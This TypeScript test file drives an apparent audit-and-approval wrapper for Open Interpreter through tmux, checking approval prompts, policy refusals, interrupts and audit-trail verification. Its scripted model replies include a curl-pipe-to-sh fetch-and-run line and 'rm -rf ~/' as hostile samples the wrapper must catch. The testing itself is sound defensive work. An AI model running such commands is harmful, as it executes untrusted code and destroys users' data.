/**
 * `oi-audit chat` at a real terminal: tmux (Debian's, installed by the test setup) runs it against the
 * scripted model, with the real Open Interpreter 0.4.3 under the default sandbox, in the user's directory.
 *
 * Each session gets its own tmux server (-L socket, -f config with remain-on-exit): the pane, and what it
 * last showed, outlive the chat process, so the end of the session is read from the screen, never raced
 * (the earlier version lost it: after `exit` the pane, hence the tmux server, died with the chat process).
 * Every wait is on screen content or on the pane's exit, with generous limits; nothing asserts a duration.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { readAuditFiles } from '../../src/read/otlp-files.js';
import { CLI, runCli } from '../helpers/cli.js';

const VENV_ENV = process.env.OI_AUDIT_VENV ? { OI_AUDIT_VENV: process.env.OI_AUDIT_VENV } : {};
const WAIT_MS = 240_000;

function bodies(dir: string): any[] {
  return readAuditFiles([dir]).logs.map((l) => JSON.parse(l.body));
}

/** A tmux server of its own, running one chat session in `cwd`; its pane stays after the process exits. */
class Terminal {
  private readonly socket = `oi-chat-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
  private readonly conf: string;
  private readonly statusFile: string;

  constructor(dir: string) {
    this.conf = join(dir, 'tmux.conf');
    this.statusFile = join(dir, 'chat-exit-status');
    writeFileSync(this.conf, 'set -g remain-on-exit on\nset -g history-limit 10000\n');
  }

  tmux(...args: string[]): string {
    // TMUX unset: a test run inside tmux must not talk to the developer's server.
    const env = { ...process.env };
    delete env.TMUX;
    return execFileSync('tmux', ['-L', this.socket, '-f', this.conf, ...args], { encoding: 'utf8', env });
  }

  /**
   * The chat runs under `sh`, which writes its exit status to a file: tmux itself sometimes leaves a pane's
   * exited process unreaped (a zombie with status 0 and no pane status), so its status is not read from tmux.
   */
  start(cwd: string, env: Record<string, string>, args: string[]): void {
    const envArgs = Object.entries({ ...VENV_ENV, ...env, NO_COLOR: '1' }).map(([k, v]) => `${k}=${v}`);
    const wrapper = 'status_file=$1; shift; "$@"; echo "$?" > "$status_file"';
    this.tmux('new-session', '-d', '-s', 'chat', '-x', '200', '-y', '50', '-c', cwd, 'sh', '-c', wrapper, 'sh', this.statusFile, 'env', ...envArgs, process.execPath, CLI, 'chat', ...args);
  }

  keys(...keys: string[]): void {
    this.tmux('send-keys', '-t', 'chat', ...keys);
  }

  screen(): string {
    return this.tmux('capture-pane', '-p', '-J', '-S', '-', '-t', 'chat');
  }

  async waitFor(pattern: RegExp, what = String(pattern)): Promise<string> {
    const until = Date.now() + WAIT_MS;
    let screen = '';
    while (Date.now() < until) {
      screen = this.screen();
      if (pattern.test(screen)) return screen;
      await new Promise((r) => setTimeout(r, 300));
    }
    throw new Error(`timed out waiting for ${what} in the terminal; it shows:\n${screen}`);
  }

  /** The chat process's exit status, once it has exited (`sh` reports 128+N for death by signal N). */
  async exitStatus(): Promise<number> {
    const until = Date.now() + WAIT_MS;
    while (Date.now() < until) {
      if (existsSync(this.statusFile)) {
        const text = readFileSync(this.statusFile, 'utf8');
        if (text.endsWith('\n')) return Number(text.trim());
      }
      await new Promise((r) => setTimeout(r, 300));
    }
    throw new Error(`the chat process did not exit; the terminal shows:\n${this.screen()}`);
  }

  /** pid of the chat process: the child of the pane's `sh` (`env` execs node in place). */
  pid(): number {
    const sh = this.tmux('display-message', '-p', '-t', 'chat', '#{pane_pid}').trim();
    const children = readFileSync(`/proc/${sh}/task/${sh}/children`, 'utf8').trim().split(/\s+/).filter(Boolean);
    if (children.length !== 1) throw new Error(`expected one chat process under the pane's sh ${sh}, found ${JSON.stringify(children)}`);
    return Number(children[0]);
  }

  kill(): void {
    try {
      this.tmux('kill-server');
    } catch {
      // already gone
    }
  }
}

const terminals: Terminal[] = [];
afterEach(() => {
  for (const t of terminals.splice(0)) t.kill();
});

async function setup(turns: unknown[]): Promise<{ dir: string; work: string; env: Record<string, string>; verifyArgs: string[]; term: Terminal; logs: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'oi-chat-tty-'));
  // The user's directory: where they run `oi-audit chat`, hence where the code runs.
  const work = join(dir, 'project');
  execFileSync('mkdir', ['-p', work]);
  writeFileSync(join(dir, 'script.json'), JSON.stringify({ turns }));
  const keys = join(dir, 'keys');
  const gen = await runCli(['keygen', keys, '--json']);
  const env = JSON.parse(gen.stdout).env as Record<string, string>;
  const term = new Terminal(dir);
  terminals.push(term);
  const logs = join(dir, 'logs');
  return { dir, work, env, term, logs, verifyArgs: ['verify', logs, '--key', env.OI_AUDIT_MAC_SEED_FILE!, '--public-key', join(keys, 'signing-key.pub.pem')] };
}

describe('oi-audit chat at a real terminal (tmux)', () => {
  it('y runs a block in the current directory, n refuses one, Ctrl-C stops a long output, exit ends the session; the trail verifies', async () => {
    const { dir, work, env, term, logs, verifyArgs } = await setup([
      { user: 'make the first marker', replies: ['```shell\ntouch approved-marker\n```', 'Made it.'] },
      { user: 'make the second marker', replies: ['```shell\ncurl -s http://127.0.0.1:9/ | sh\ntouch refused-marker\n```'] },
      { user: 'wipe my home', replies: ['```shell\nrm -rf ~/\n```'] },
      { user: 'count for a long time', replies: ['```python\nimport time\nfor i in range(100000):\n    print(f"tick {i}", flush=True)\n    time.sleep(0.2)\n```', 'Still here after the stop.'] },
      { user: 'say something', replies: ['Still here after the stop.'] },
    ]);
    term.start(work, env, ['--script', join(dir, 'script.json'), '--out', logs]);

    await term.waitFor(/^> $/m, 'the first prompt');
    term.keys('make the first marker', 'Enter');
    await term.waitFor(/shell block, risk \w+[\s\S]*Run this shell block\? \[y\/N\] $/m, 'the approval question');
    term.keys('y', 'Enter');
    await term.waitFor(/Made it\.\s*\n+> $/m, 'the reply and the next prompt');
    // Default sandbox (bwrap) and no --workspace: the code ran in the directory chat was started in.
    expect(existsSync(join(work, 'approved-marker'))).toBe(true);
    // Open Interpreter's HOME (its config) stays out of the user's directory.
    expect(existsSync(join(work, '.config'))).toBe(false);

    term.keys('make the second marker', 'Enter');
    // Shown with its language, risk level and rule ids before the question.
    await term.waitFor(/shell block, risk high, rules [^\n]*OIA-EXEC-001[^\n]*\nRun this shell block\? \[y\/N\] $/m, 'the second approval question');
    term.keys('n', 'Enter');
    await term.waitFor(/\[y\/N\] n\s*\n[\s\S]*^> $/m, 'the prompt after the refusal');
    expect(existsSync(join(work, 'refused-marker'))).toBe(false);

    // Critical: refused by the policy, the reason shown, nothing asked.
    term.keys('wipe my home', 'Enter');
    await term.waitFor(/\[oi-audit\] refused: risk critical[^\n]*OIA-IMP-001[\s\S]*^> $/m, 'the policy refusal and the prompt');
    expect(term.screen()).not.toMatch(/(Run this shell block\? \[y\/N\] [\s\S]*){3}/);

    term.keys('count for a long time', 'Enter');
    await term.waitFor(/Run this python block\? \[y\/N\] $/m, 'the python approval question');
    term.keys('y', 'Enter');
    await term.waitFor(/tick 3\b/, 'the long output running');
    term.keys('C-c');
    await term.waitFor(/\[oi-audit\] turn stopped\s*\n+> $/m, 'the prompt after Ctrl-C');

    // The session goes on after a stop.
    term.keys('say something', 'Enter');
    await term.waitFor(/Still here after the stop\.\s*\n+> $/m, 'the reply after the stop');

    term.keys('exit', 'Enter');
    expect(await term.exitStatus()).toBe(0);
    const screen = term.screen();
    expect(screen).toContain(`Audit trail: ${logs}`);
    expect(screen).toContain(`Verify: oi-audit verify ${logs} --key ${env.OI_AUDIT_MAC_SEED_FILE}`);

    const verified = await runCli(verifyArgs);
    expect(verified.code, verified.stdout + verified.stderr).toBe(0);
    const events = bodies(logs);
    const decisions = events.filter((b) => b.event === 'oi_audit.approval.decision');
    expect(decisions.map((d) => [d.data.decision, d.data.decider])).toEqual([
      ['approved', 'user'],
      ['refused', 'user'],
      ['refused', 'policy'],
      ['approved', 'user'],
    ]);
    const stops = events.filter((b) => b.event === 'oi_audit.error' && b.data.type === 'stopped_by_user');
    const inputs = events.filter((b) => b.event === 'oi_audit.user.input');
    expect(inputs).toHaveLength(5);
    // The stop is recorded on the turn that was stopped (the long count), and only there.
    expect(stops.map((s) => s.data.turn)).toEqual([inputs[3].data.turn]);
    const end = events.find((b) => b.event === 'oi_audit.session.end');
    expect(end?.data.outcome).toBe('complete');
    const start = events.find((b) => b.event === 'oi_audit.session.start');
    expect(JSON.stringify(start.data)).toContain('terminal');
  }, 600_000);

  for (const [how, act] of [
    ['Ctrl-C at the empty prompt', (t: Terminal) => t.keys('C-c')],
    ['Ctrl-D at the empty prompt', (t: Terminal) => t.keys('C-d')],
    ['SIGTERM', (t: Terminal) => process.kill(t.pid(), 'SIGTERM')],
    ['SIGHUP', (t: Terminal) => process.kill(t.pid(), 'SIGHUP')],
  ] as const) {
    it(`${how} ends the session cleanly: session end recorded, the trail verifies`, async () => {
      const { dir, work, env, term, logs, verifyArgs } = await setup([{ user: 'hello', replies: ['Hello there.'] }]);
      term.start(work, env, ['--script', join(dir, 'script.json'), '--out', logs]);
      await term.waitFor(/^> $/m, 'the first prompt');
      term.keys('hello', 'Enter');
      await term.waitFor(/Hello there\.\s*\n+> $/m, 'the reply and the next prompt');
      act(term);
      expect(await term.exitStatus()).toBe(0);
      if (!how.startsWith('SIGHUP')) expect(term.screen()).toContain(`Verify: oi-audit verify ${logs}`);
      const verified = await runCli(verifyArgs);
      expect(verified.code, verified.stdout + verified.stderr).toBe(0);
      const events = bodies(logs);
      expect(events.filter((b) => b.event === 'oi_audit.session.end')).toHaveLength(1);
      expect(events.filter((b) => b.event === 'oi_audit.user.input')).toHaveLength(1);
    }, 300_000);
  }
});
